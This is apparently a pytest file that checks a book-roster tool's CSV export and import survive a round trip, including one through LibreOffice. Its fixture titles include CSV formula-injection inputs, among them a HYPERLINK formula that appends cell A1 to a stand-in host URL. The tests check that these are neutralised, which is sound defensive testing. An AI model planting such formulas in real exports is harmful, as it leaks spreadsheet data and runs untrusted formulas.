"""A resource with every kind of attribute, exported to a spreadsheet and imported again."""

import csv
import io
import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

SOFFICE = shutil.which("soffice")
SAVED_AS = {
    # Separator, quote, encoding and first line; cells as displayed, and TRUE instead of true.
    "commas": "44,34,76,1,,0,false,true",
    "semicolons": "59,34,76,1,,0,false,true",
    "all texts in quotes": "44,34,76,1,,0,true,true",
    "tabs in UTF-16": "9,34,65535,1,,0,false,true",
    "windows-1252": "59,34,1,1,,0,false,true",
}
TITLES = [
    *("Emma", '=HYPERLINK("http://x.test/?"&A1,"Ann")', "=1+1", "+1", "-1", "@SUM(1)", "'=1+1"),
    *("''=1", "007", "1e5", "1/2", "2026-01-02", "12.50", "true", "FALSE", "'68", "'t Hooft"),
    *(" Émile ", 'He said "no", twice', "a;b", "68er", "é=1"),
]
FULL: dict[str, Any] = {
    "isbn": "a-1",
    "summary": "Of\nHighbury.",
    "lent": True,
    "pages": 474,
    "sold": 2**53 + 1,
    "price": "12.50",
    "published": "1815-12-23",
    "due": "2026-11-22T09:30:00.120Z",
    "contact": "+jane@example.org",
    "website": "https://example.org/",
    "edition": "12345678-1234-1234-1234-123456789012",
    "state": "used",
    "extra": True,
}
OTHERS: list[dict[str, Any]] = [
    {},
    {"sold": -(2**60), "price": "12.00", "extra": {"binding": ["cloth", 1]}, "summary": "=1\n+1"},
    {"pages": 1, "extra": 1.5, "summary": "007", "contact": "=x@example.org"},
    {"extra": "true"},
]


@pytest.fixture
def books(roster: Any, tmp_path: Path) -> list[Any]:
    """Books with every kind of value, and with texts that spreadsheets change."""
    file = tmp_path / "books.jsonl"
    rows = [{"title": "Full", **FULL}, *({"title": "Other", **other} for other in OTHERS)]
    rows += [{"title": title} for title in TITLES]
    for number, row in enumerate(rows):
        row["isbn"] = f"b{number}"
    file.write_text("".join(json.dumps(row) + "\n" for row in rows))
    result = roster("books", "import", str(file))
    assert result.exit_code == 0, result.stderr
    return rows


def unchanged(books: list[Any]) -> str:
    return f"0 created, 0 changed, {len(books)} unchanged, 0 bad\n"


def of_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("options", [(), ("--for-spreadsheets", "--bom")])
def test_an_export_updates_nothing(
    roster: Any, books: list[Any], tmp_path: Path, options: tuple[str, ...]
) -> None:
    file = str(tmp_path / "books.csv")
    assert roster("books", "export", file, *options).exit_code == 0
    for update in ("--update", "--update-only"):
        result = roster("books", "import", file, update)
        assert (result.stderr, result.stdout) == ("", unchanged(books))


def test_no_cell_for_a_spreadsheet_is_evaluated_or_rounded(
    roster: Any, books: list[Any], tmp_path: Path
) -> None:
    file = tmp_path / "books.csv"
    assert roster("books", "export", str(file), "--for-spreadsheets").exit_code == 0
    rows = of_cells(file.read_text(encoding="utf-8"))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    first = rows[0]
    assert (first["sold"], first["pages"], first["price"]) == (f"'{2**53 + 1}", "474", "12.50")
    assert (first["lent"], first["extra"], first["contact"]) == (
        "true",
        "'true",
        "'+jane@example.org",
    )


def test_update_only_rejects_records_without_an_existing_book(roster: Any, tmp_path: Path) -> None:
    file = tmp_path / "books.csv"
    file.write_text("isbn,title\na-1,Emma\n,Emma\n")
    result = roster("books", "import", str(file), "--update-only")
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert lines[:2] == [
        f"line {line}: isbn: book_not_found: there is no book with this isbn" for line in (2, 3)
    ]


@pytest.mark.long
@pytest.mark.parametrize("roster", ["sqlite"], indirect=True)
@pytest.mark.parametrize("saved_as", SAVED_AS)
def test_libreoffice_opens_and_saves_an_export_without_a_change(
    roster: Any,
    books: list[Any],
    tmp_path: Path,
    saved_as: str,
    lacking: Callable[[str], None],
) -> None:
    if SOFFICE is None:
        lacking("LibreOffice")
    file, workbook = tmp_path / "books.csv", tmp_path / "workbook"
    assert roster("books", "export", str(file), "--for-spreadsheets").exit_code == 0
    convert(file, "ods", workbook, "--infilter=CSV:44,34,76,1,,1033,false,true")
    convert(
        workbook / "books.ods",
        f"csv:Text - txt - csv (StarCalc):{SAVED_AS[saved_as]}",
        tmp_path / "saved",
    )
    encoding = ("--encoding", "windows-1252") if saved_as == "windows-1252" else ()
    saved = tmp_path / "saved" / "books.csv"
    assert saved.read_bytes() != file.read_bytes()
    result = roster("books", "import", str(saved), "--update", *encoding)
    assert (result.stderr, result.stdout) == ("", unchanged(books))


def convert(file: Path, form: str, directory: Path, *options: str) -> None:
    """Opens a file with LibreOffice, and saves it in another format."""
    profile = f"-env:UserInstallation=file://{directory.parent}/profile"
    command = [str(SOFFICE), profile, "--headless", *options, "--convert-to", form]
    done = subprocess.run(
        [*command, "--outdir", str(directory), str(file)],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    assert "using filter" in done.stdout, done.stderr
